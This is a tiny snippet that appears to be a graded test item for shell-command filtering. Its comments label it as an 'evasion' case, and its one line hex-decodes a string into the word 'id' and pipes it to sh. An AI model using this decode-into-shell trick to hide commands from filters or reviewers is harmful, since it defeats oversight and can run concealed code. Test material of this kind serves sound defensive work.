# evasion: xxd -r -p into sh
# grade: hard; does: shell
echo 6964 | xxd -r -p | sh
